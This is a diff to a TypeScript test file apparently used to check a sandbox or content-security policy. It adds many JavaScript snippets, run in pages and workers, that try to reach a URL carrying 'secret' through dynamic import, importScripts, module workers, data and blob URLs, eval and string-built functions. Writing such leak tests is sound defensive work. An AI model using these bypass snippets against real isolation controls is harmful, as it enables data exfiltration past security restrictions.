@@ -180,6 +180,23 @@ export const pageAttempts: Attempt[] = [
       s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }] }); document.head.append(s)`,
   },
   { name: 'import', body: 'await import(to)' },
+  { name: 'import of the same origin', body: 'await import(new URL("leak.js?secret", location.href).href)' },
+  { name: 'import of a known file', body: 'await import(new URL("sw.js?secret", location.href).href)' },
+  { name: 'import of JSON', body: 'await import(to, { with: { type: "json" } })' },
+  { name: 'import of a style sheet', body: 'await import(to, { with: { type: "css" } })' },
+  {
+    name: 'import of a data URL',
+    body: 'await import("data:text/javascript,import(" + JSON.stringify(to) + ")")',
+  },
+  {
+    name: 'import of a blob',
+    body: 'await import(URL.createObjectURL(new Blob(["import " + JSON.stringify(to)], { type: "text/javascript" })))',
+  },
+  { name: 'module worker', body: 'new Worker(to, { type: "module" })' },
+  {
+    name: 'worker of a part',
+    body: 'new Worker(new URL("workers/parts/leak.js?secret", location.href), { type: "module" })',
+  },
   { name: 'eval', body: "eval('new Image().src = ' + JSON.stringify(to))" },
   { name: 'worker', body: 'new Worker(to)' },
   {
@@ -263,7 +280,45 @@ export const workerAttempts: Attempt[] = [
   { name: 'worker: EventSource', body: 'new EventSource(to)' },
   { name: 'worker: WebTransport', body: 'await new WebTransport(to.replace("http:", "https:")).ready' },
   { name: 'worker: importScripts', body: 'importScripts(to)' },
+  {
+    name: 'worker: importScripts of the same origin',
+    body: 'importScripts(new URL("leak.js?secret", location.href).href)',
+  },
+  {
+    name: 'worker: importScripts of the prototype',
+    body: 'WorkerGlobalScope.prototype.importScripts.call(self, to)',
+  },
   { name: 'worker: import', body: 'await import(to)' },
+  {
+    name: 'worker: import of the same origin',
+    body: 'await import(new URL("leak.js?secret", location.href).href)',
+  },
+  {
+    name: 'worker: import beside it',
+    body: 'await import(new URL("parts/leak.js?secret", location.href).href)',
+  },
+  {
+    name: 'worker: import of a known file',
+    body: 'await import(new URL("/sw.js?secret", location.href).href)',
+  },
+  { name: 'worker: import of JSON', body: 'await import(to, { with: { type: "json" } })' },
+  {
+    name: 'worker: import of JSON of the same origin',
+    body: 'await import(new URL("leak.json?secret", location.href).href, { with: { type: "json" } })',
+  },
+  { name: 'worker: import of text', body: 'await import(to, { with: { type: "text" } })' },
+  { name: 'worker: import of a style sheet', body: 'await import(to, { with: { type: "css" } })' },
+  {
+    name: 'worker: import of a data URL',
+    body: 'await import("data:text/javascript,import(" + JSON.stringify(to) + ")")',
+  },
+  {
+    name: 'worker: import of a blob',
+    body: 'await import(URL.createObjectURL(new Blob(["import " + JSON.stringify(to)], { type: "text/javascript" })))',
+  },
+  { name: 'worker: import from text', body: "await setTimeout('import(' + JSON.stringify(to) + ')')" },
+  { name: 'worker: import from a function', body: "await new Function('to', 'return import(to)')(to)" },
+  { name: 'worker: module worker', body: 'new Worker(to, { type: "module" })' },
   { name: 'worker: eval', body: "eval('fetch(' + JSON.stringify(to) + ')')" },
   {
     name: 'worker: worker of a blob',
